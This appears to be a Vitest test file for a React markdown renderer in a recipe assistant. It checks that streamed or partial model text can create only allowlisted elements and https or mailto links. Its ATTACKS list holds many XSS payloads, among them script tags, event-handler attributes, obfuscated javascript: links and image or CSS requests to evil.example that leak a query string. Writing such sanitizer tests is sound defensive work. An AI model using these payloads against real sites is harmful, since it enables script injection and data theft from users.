import { render } from '@testing-library/react';
import { expect, test, vi } from 'vitest';
import { RecipeMarkdown } from 'recipe-assistant/markdown';

/** Every element and attribute that a recipe may be made of. */
const GRAMMAR: Record<string, string[]> = {
  ...Object.fromEntries('h1 h2 h3 h4 h5 h6'.split(' ').map((tag) => [tag, ['data-role']])),
  ...Object.fromEntries('p br hr em strong del code pre'.split(' ').map(plain)),
  ...Object.fromEntries('blockquote ul li dl dt dd table thead tbody tr'.split(' ').map(plain)),
  ol: ['start'],
  th: ['data-align'],
  td: ['data-align'],
  a: ['href', 'rel'],
};

const ATTACKS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)><animate onbegin=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input autofocus onfocus=alert(1)></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<style>*{background:url(https://evil.example)}</style><link rel=stylesheet href=//evil.example>',
  '<pre onclick=alert(1)><b>x</b></pre>\n\n<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)">x</a>\n<Component onClick={alert} dangerouslySetInnerHTML={{}} />',
  '![x](https://evil.example/?q=secret "t") ![x][y]\n\n[y]: https://evil.example/y.png',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](javascript:alert(1)) [x](  JaVaScRiPt:alert(1)) [x](<javascript:alert(1)>)',
  '[x](java&Tab;script:alert(1)) [x](java&#10;script:alert(1)) [x](&#x6A;avascript:alert(1))',
  '[x](javascript&colon;alert(1)) [x](\\javascript:alert(1)) [x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///x) [x](blob:x)',
  '[x](//evil.example) [x](/\\evil.example) [x](?q) [x](#id) [x](view-source:x) [x](intent:x)',
  '[x](https:javascript:alert(1)) [x](https://evil.example/"onmouseover="alert(1))',
  '[x](mailto:a@b.example?subject=<script>) <mailto:a@b.example> <javascript:alert(1)>',
  '[![x](https://evil.example/y.png)](javascript:alert(1)) [[x](https://a.example)](data:x)',
  '[x][js] [js]\n\n[js]: javascript:alert(1) "t"\n\n[^1] text\n\n[^1]: <b>note</b>',
  '# x {#location}\n\n## <a id=cookie name=cookie>\n\n- [x] <input>\n- [ ] done',
  '| <b>x</b> | [y](javascript:1) |\n|:-:|--:|\n| <img src=x> | `<script>` | z |',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```\n\n```js <b>\nx\n```',
  '> <script>\n> - <img src=x onerror=alert(1)>\n>   1. [x](javascript:1)',
  '---\n__proto__: <b>\n---\n\n&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &#x3c;i&#x3e;',
  '**Serves:** <b>4</b> | Prep: [10](javascript:1) min | Cook: 20 min onload=x\nTotal: &lt;40&gt; min ![x](https://evil.example/y.png)',
  '<https://evil.example/<script>> <!-- --><b> <![CDATA[x]]> <?php x ?> <!DOCTYPE x>',
];

test('no model text makes an element, attribute, address or request outside the grammar', async () => {
  vi.stubGlobal('alert', vi.fn());
  const requested = performance.getEntriesByType('resource').length;
  for (const attack of ATTACKS) {
    const streamed = render(<RecipeMarkdown text="" streaming />);
    for (let end = 1; end <= attack.length; end += 1) {
      const beginning = attack.slice(0, end);
      streamed.rerender(<RecipeMarkdown text={beginning} streaming />);
      judge(streamed.container, beginning);
      const cut = render(<RecipeMarkdown text={beginning} />);
      judge(cut.container, beginning);
      cut.unmount();
    }
    streamed.unmount();
  }
  await new Promise((resolve) => setTimeout(resolve, 100));
  const requests = performance.getEntriesByType('resource').slice(requested);
  expect(requests.filter(({ name }) => name.includes('evil.example'))).toEqual([]);
  expect(alert).not.toHaveBeenCalled();
  vi.unstubAllGlobals();
});

test('a recipe full of named characters is drawn without a sink that Trusted Types guard', () => {
  const sinks = vi.spyOn(Element.prototype, 'innerHTML', 'set');
  const { container } = render(
    <RecipeMarkdown
      text={'180 &deg;C, &frac12; &#8532; &#x2153; &euro;&nbsp;2 &unknown;\n\n<i>x</i>'}
    />,
  );
  expect(container.textContent).toBe('180 °C, ½ ⅔ ⅓ €\u00a02 &unknown;<i>x</i>');
  expect(sinks).not.toHaveBeenCalled();
});

test('a selection in finished text survives later text', () => {
  const text =
    '# Stew\n\nWarm and **thick**.\n\n- salt\n- oil\n- leek\n\nMethod\n---\n\n1. Chop\n2. Fry';
  const { container, rerender } = render(<RecipeMarkdown text={text.slice(0, 48)} streaming />);
  const [first, second] = container.querySelectorAll('li');
  getSelection()?.setBaseAndExtent(
    container.querySelector('strong')!.firstChild!,
    1,
    first!.firstChild!,
    2,
  );
  const mutations: MutationRecord[] = [];
  const observer = new MutationObserver((records) => mutations.push(...records));
  observer.observe(container.querySelector('h2')!, everything);
  observer.observe(container.querySelector('p')!, everything);
  observer.observe(first!, everything);

  for (let end = 48; end <= text.length; end += 1) {
    rerender(<RecipeMarkdown text={text.slice(0, end)} streaming />);
  }
  rerender(<RecipeMarkdown text={text} />);

  expect(container.querySelectorAll('li')).toHaveLength(5);
  expect(second?.isConnected).toBe(true);
  expect(getSelection()?.toString().replaceAll(/\s+/g, ' ')).toBe('hick. sa');
  expect([...mutations, ...observer.takeRecords()]).toEqual([]);
});

const everything = { attributes: true, characterData: true, childList: true, subtree: true };

function judge(container: HTMLElement, text: string): void {
  for (const element of container.querySelectorAll('*')) {
    const tag = element.localName;
    const outside = element.getAttributeNames().filter((name) => !GRAMMAR[tag]?.includes(name));
    const isKnown = tag in GRAMMAR && element instanceof HTMLElement;
    if (!isKnown || outside.length > 0) expect.fail(`${element.outerHTML} out of ${text}`);
    if (element instanceof HTMLAnchorElement) {
      expect(['https:', 'mailto:'], text).toContain(element.protocol);
      expect(element.getAttribute('href'), text).toMatch(/^(?:https|mailto):/);
      expect(element.getAttribute('rel'), text).toBe('noopener noreferrer nofollow ugc');
    }
  }
}

function plain(tag: string): [string, string[]] {
  return [tag, []];
}
